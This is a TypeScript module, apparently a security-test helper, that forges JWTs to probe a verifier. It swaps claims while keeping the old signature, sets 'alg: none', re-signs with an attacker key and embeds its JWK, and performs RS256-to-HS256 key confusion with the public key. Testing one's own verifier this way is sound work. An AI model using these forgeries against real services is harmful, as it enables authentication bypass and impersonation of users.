/** Forges JWTs, in the ways that have broken verifiers before. */
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';

type Fields = Readonly<Record<string, unknown>>;

/** A key of the user pool's jwks.json. */
export interface PublicKey {
  readonly kid: string;
  readonly kty: string;
  readonly n: string;
  readonly e: string;
}

const base64url = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

const fieldsOf = (part: string): Fields => JSON.parse(Buffer.from(part, 'base64url').toString('utf8')) as Fields;

const partsOf = (jwt: string): readonly [string, string, string] => {
  const [header = '', payload = '', signature = ''] = jwt.split('.');
  return [header, payload, signature];
};

/** The payload of a JWT, not verified. */
export const payloadOf = (jwt: string): Fields => fieldsOf(partsOf(jwt)[1]);

/** The token with other claims and the signature that it had. */
export const withClaims = (jwt: string, claims: Fields): string => {
  const [header, payload, signature] = partsOf(jwt);
  return `${header}.${base64url({ ...fieldsOf(payload), ...claims })}.${signature}`;
};

/** The token with other header fields and the signature that it had. */
export const withHeader = (jwt: string, fields: Fields): string => {
  const [header, payload, signature] = partsOf(jwt);
  return `${base64url({ ...fieldsOf(header), ...fields })}.${payload}.${signature}`;
};

/** The token with `alg: none`, in some spelling, and no signature. */
export const unsigned = (jwt: string, alg: string): string => {
  const [header, payload] = partsOf(withHeader(jwt, { alg }));
  return `${header}.${payload}.`;
};

let ownKeys: ReturnType<typeof makeKeys> | undefined;
const makeKeys = () => generateKeyPairSync('rsa', { modulusLength: 2048 });

/** The token with other claims, signed by a key of the attacker's; its public half may go into the header. */
export const resigned = (jwt: string, claims: Fields = {}, { embedKey = false } = {}): string => {
  ownKeys ??= makeKeys();
  const jwk = ownKeys.publicKey.export({ format: 'jwk' });
  const [header, payload] = partsOf(withHeader(withClaims(jwt, claims), embedKey ? { jwk } : {}));
  const signature = sign('RSA-SHA256', Buffer.from(`${header}.${payload}`), ownKeys.privateKey);
  return `${header}.${payload}.${signature.toString('base64url')}`;
};

/** The token signed by HMAC with the pool's public key as the secret: what a verifier does that trusts `alg`. */
export const signedWithPublicKey = (jwt: string, { kty, n, e }: PublicKey): string => {
  const pem = createPublicKey({ key: { kty, n, e }, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const [header, payload] = partsOf(withHeader(jwt, { alg: 'HS256' }));
  const signature = createHmac('sha256', pem).update(`${header}.${payload}`).digest('base64url');
  return `${header}.${payload}.${signature}`;
};
